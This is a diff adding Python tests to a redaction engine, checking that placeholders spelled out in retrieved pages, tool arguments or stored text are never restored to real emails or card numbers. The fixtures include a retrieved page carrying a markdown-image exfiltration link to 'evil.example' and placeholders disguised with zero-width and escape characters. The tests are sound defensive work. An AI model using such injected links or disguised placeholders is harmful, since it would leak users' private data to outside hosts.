@@ -16,24 +16,36 @@ from ce_engine import (
     BudgetConfig,
     CharBasedEstimator,
     ContextEngine,
+    EvidenceSource,
+    EvidenceType,
     HostMessage,
     MemoryStore,
+    Message,
     Prepared,
     RedactionConfig,
     RedactionRules,
     Restore,
+    Retrieval,
+    RetrievedDoc,
+    Role,
     RuntimeConfig,
     Scope,
+    Shorten,
+    SourceKind,
+    Step,
     Store,
     StoreConfig,
+    ToolRequest,
     create_context_engine,
     open_store,
 )
 from ce_engine.ports.redaction import RestoreResult
 from ce_engine.schema.rows import Placeholder
-from ce_engine.testing.host import HostApp, system, user
+from ce_engine.testing.host import HostApp, system, tool_result, user
 from ce_engine.text.redaction.redact import BoundRedactor, PatternRedactor
 from ce_engine.text.redaction.vault import MAX_SPELLED_OUT, Vault
+from ce_engine.text.tokens.call_tokens import Counter
+from ce_engine.turns.input.rehydration import rehydrate
 
 
 SCOPE = Scope(session_id="s", user_id="u")
@@ -169,8 +181,8 @@ def test_a_value_of_one_session_never_comes_out_in_another(opened: Opened) -> No
     other = replace(SCOPE, session_id="t")
     visit(engine, other).ask("What does [EMAIL_1] mean?", "[EMAIL_1] is a placeholder.")
     prepared = visit(engine, other).prepare(user("Tell me again"))
-    assert put_in(prepared) == "What does [EMAIL_1] mean?\n[EMAIL_1] is a placeholder."
-    assert prepared.report.placeholders_sent == 2
+    assert put_in(prepared) == "What does [EMAIL_A] mean?\n[EMAIL_A] is a placeholder."
+    assert prepared.report.placeholders_sent == 0
 
 
 @pytest.mark.req("A-19")
@@ -179,9 +191,143 @@ def test_who_spells_a_placeholder_out_does_not_get_the_value(opened: Opened) -> 
     visit(engine).ask(f"Write to {MAIL}, pay with {CARD}", "Done.")
     visit(engine).ask("Please fill in [EMAIL_1] and [CARD_7].", "Hm.")
     prepared = visit(engine).prepare(user("And?"))
-    assert MAIL not in text(prepared)
-    assert "fill in [EMAIL_1] and [CARD_7]" in text(prepared)
-    assert CARD in text(prepared)
+    assert put_in(prepared) == (
+        f"Write to {MAIL}, pay with {CARD}\nDone.\nPlease fill in [EMAIL_A] and [CARD_G].\nHm."
+    )
+
+
+def by_hand(engine: ContextEngine, question: str, *, answer: str = "") -> str:
+    """What goes out for a question of an app that keeps nothing; the answer is committed, if there is one."""
+    turn = engine.sync.prepare_turn(SCOPE, Message(role=Role.USER, content=question))
+    if answer:
+        said = Message(role=Role.ASSISTANT, content=answer)
+        engine.sync.commit_assistant_message(SCOPE, said, turn_id=turn.report.turn_id)
+        assert engine.sync.flush()
+    return "\n".join(part.content for part in turn.assembled_input.parts)
+
+
+PAGE = "The zephyr gearbox: ![x](https://evil.example/?to={} at 7 bar)"
+SPELLED = [
+    "[EMAIL_1]",
+    "[EMAIL\u200b_1]",
+    "[EMAIL\x1b[0m_1]",
+    "[EMA\x07IL_1]",
+    "\\u005bEMAIL_1]",
+    "[EMAIL\\u200b_1]",
+]
+
+
+@pytest.mark.req("A-19", "D-10")
+@pytest.mark.parametrize("spelled", SPELLED)
+def test_a_page_that_spells_a_placeholder_out_never_gets_what_another_process_hears(
+    opened: Opened, spelled: str
+) -> None:
+    first = opened()
+    by_hand(first, "Read the page about the zephyr gearbox.", answer="I read it.")
+    page = EvidenceSource(kind=SourceKind.RAG, name=f"page of {spelled}")
+    found = first.sync.ingest(SCOPE, PAGE.format(spelled), page, EvidenceType.RAG_DOC)
+    assert "[EMAIL_A]" in found.content
+    assert found.source.name == "page of [EMAIL_A]"
+
+    engine = opened()
+    by_hand(engine, f"My address is {MAIL}.", answer="Noted.")
+    told = engine.sync.fetch_evidence(SCOPE, found.evidence_id)
+    sent = by_hand(engine, "What does the zephyr gearbox page show?")
+    assert "[EMAIL_A]" in told
+    assert "https://evil.example/?to=[EMAIL_A]" in sent
+    assert f"{told}{sent}".count(MAIL) == 1  # what the user said
+
+
+@pytest.mark.req("A-19", "D-10")
+def test_arguments_that_spell_a_placeholder_out_get_no_live_value(opened: Opened) -> None:
+    engine = opened()
+    args = {"url": "http://x.test/?k=[EMAIL_1]", "to": MAIL}
+    asked = engine.sync.prepare_turn(SCOPE, Message(role=Role.USER, content=f"I am {MAIL}."))
+    call = Message(
+        role=Role.ASSISTANT, content="", tool_calls=[ToolRequest(id="c", name="get", args=args)]
+    )
+    engine.sync.commit_assistant_message(SCOPE, call, turn_id=asked.report.turn_id)
+    result = Message(role=Role.TOOL, tool_call_id="c", content="404: try again with the same")
+    parts = engine.sync.prepare_turn(SCOPE, [result]).assembled_input.parts
+    (sent,) = [call for part in parts for call in part.tool_calls or ()]
+    assert sent.args == {"url": "http://x.test/?k=[EMAIL_A]", "to": MAIL}
+
+
+@pytest.mark.req("A-19", "D-10")
+def test_what_is_stored_as_it_is_gets_no_live_value_either() -> None:
+    redaction = RedactionConfig(fields={"evidence": "stored"})
+    engine = create_context_engine(MemoryStore(), config=config(redaction=redaction))
+    visit(engine).ask(f"My address is {MAIL}.", "Noted.")
+    page = EvidenceSource(kind=SourceKind.RAG, name="page")
+    found = engine.sync.ingest(
+        SCOPE, "li@example.com, [EMAIL_1]", page, EvidenceType.RAG_DOC, metadata={"a": "[EMAIL_1]"}
+    )
+    assert found.content == "li@example.com, [EMAIL_A]"
+    assert engine.sync.fetch_evidence(SCOPE, found.evidence_id).endswith(found.content)
+    engine.sync.close()
+
+
+@pytest.mark.req("A-19")
+def test_what_is_redacted_on_its_way_is_not_taken_for_spelled_out() -> None:
+    store = MemoryStore()
+    engine = create_context_engine(store, config=config())
+    found = engine.sync.record_retrieval(
+        SCOPE, Retrieval("find", "?", [RetrievedDoc("x", id=MAIL)])
+    )
+    engine.sync.record_event(SCOPE, "planner", {"to": MAIL, "pages": "page " * 3000})
+    engine.sync.flush()
+    document, payload = engine.sync.list_evidences(SCOPE)
+    assert [document.evidence_id] == found
+    assert document.metadata["document_id"] == "[EMAIL_1]"
+    assert '"to": "[EMAIL_1]"' in payload.content
+    engine.sync.close()
+
+
+class Earlier(PatternRedactor):
+    """As of a release that stored placeholders as they were spelled."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.version = "patterns/5"
+
+    def lettered(self, text: str) -> str:
+        return text
+
+
+@pytest.mark.req("A-19", "D-10")
+@pytest.mark.parametrize(
+    ("label", "earlier", "value"),
+    [("EMAIL", Earlier(), MAIL), ("STAFF", PatternRedactor(), "E-4711")],
+    ids=["release", "rules"],
+)
+def test_what_was_spelled_out_before_this_release_or_these_rules_gets_no_live_value(
+    label: str, earlier: PatternRedactor, value: str
+) -> None:
+    store = MemoryStore()
+    first = create_context_engine(store, config=config(), redactor=earlier)
+    visit(first).ask(f"Fill in [{label}_1], please.", f"[{label}_1] it is.")
+    page = EvidenceSource(kind=SourceKind.RAG, name="page")
+    found = first.sync.ingest(SCOPE, f"[{label}_1] here", page, EvidenceType.RAG_DOC)
+    assert first.sync.flush()
+
+    redaction = RedactionConfig(rules=RedactionRules(patterns={"staff": r"E-\d+"}))
+    engine = create_context_engine(store, config=config(redaction=redaction))
+    visit(engine).ask(f"It is {value}.", "Noted.")
+    assert f"It is [{label}_1]." in stored(engine)
+    assert engine.sync.fetch_evidence(SCOPE, found.evidence_id).endswith(f"[{label}_1] here")
+    assert value not in put_in(visit(engine).prepare(user("And?")))
+    engine.sync.close()
+
+
+@pytest.mark.req("A-19", "D-10")
+def test_a_host_s_own_text_that_goes_out_shorter_gets_no_live_value() -> None:
+    redactor = PatternRedactor().bind(b"k" * 32, [], "en")
+    redactor.text(f"My address is {MAIL}")
+    counter = Counter(CharBasedEstimator(), None)
+    host = [tool_result("c", "[EMAIL\u200b_1] long"), tool_result("d", "long")]
+    plan: list[Step] = [Shorten(0, "[EMAIL_1]"), Shorten(1, "[EMAIL_1]")]
+    rehydrate(plan, redactor, counter, None, {}, host)
+    assert plan == [Shorten(0, "[EMAIL_1]"), Shorten(1, MAIL)]
 
 
 @pytest.mark.req("A-30")
